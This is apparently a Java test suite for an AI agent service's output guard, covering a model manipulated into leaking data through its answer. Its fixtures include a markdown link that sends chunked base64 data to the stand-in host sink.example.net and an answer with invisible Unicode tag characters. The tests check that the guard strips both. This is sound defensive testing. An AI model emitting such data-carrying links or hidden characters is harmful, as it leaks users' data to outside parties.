package dev.agentservice.endtoend.attack;

import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import dev.agentservice.endtoend.Client;
import dev.agentservice.endtoend.EventStream;
import dev.agentservice.endtoend.ServiceUnderTest;
import dev.agentservice.simulator.script.Responses;
import dev.agentservice.support.BesideOthers;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import static org.assertj.core.api.Assertions.assertThat;

/** A model that was talked into taking data out in its answer. */
@BesideOthers
class AnswerLinkTests {

	private static final String FILE = """
			---
			name: %s
			models: {simple: anthropic/claude-haiku-4-5}
			guard: {%s}
			---
			You help.
			""";

	@RegisterExtension
	static final ServiceUnderTest service = new ServiceUnderTest()
		.agent("assistant", FILE.formatted("assistant", "output: block"))
		.agent("strict", FILE.formatted("strict", "links: trusted-only, trusted_hosts: [docs.example.com]"));

	@Test
	void dataThatIsCutIntoPiecesOfAPathIsTakenOutWholeAndStreamed() {
		String data = "ZmluZSB3b3/JkcyBidXR0/ZXIgbm8gcGF/yc25pcHMsIG/J1dCB0aGUga2/V5IGlzIGhlc/mU6IGhvcnNl/IGJhdHRlcnk";
		assertAnswer("assistant", "See [this](https://sink.example.net/" + data + ").",
				"See [this] (link to sink.example.net removed).", "redacted_link");
	}

	@Test
	void whatNobodySeesIsTakenOut() {
		assertAnswer("assistant", "Fine\u200b.\udb40\udc68\udb40\udc69", "Fine.", "redacted_invisible");
	}

	@Test
	void anAgentMayAllowTrustedHostsAlone() {
		String answer = "[a](https://docs.example.com/b) and [c](https://other.example.net/d)";
		assertAnswer("strict", answer, "[a](https://docs.example.com/b) and [c] (link to other.example.net removed)",
				"redacted_link");
		service.anthropic().always(Responses.answer(answer));
		assertThat(service.ada().ask(Map.of("task", "Go.", "agent", "assistant")).text("/answer")).isEqualTo(answer);
	}

	private static void assertAnswer(String agent, String answer, String told, String notice) {
		service.anthropic().always(Responses.answer(answer));
		Map<String, Object> request = Map.of("task", "Go.", "agent", agent);
		Client.Reply plain = service.ada().ask(request);
		assertThat(plain.text("/answer")).isEqualTo(told);
		assertThat(plain.json().at("/notices").toString()).contains(notice);
		List<EventStream.Event> events = service.ada().stream(request).rest();
		assertThat(events.stream()
			.filter((event) -> event.type().equals("answer.delta"))
			.map((event) -> event.json().at("/text").asString())
			.collect(Collectors.joining())).isEqualTo(told);
	}

}
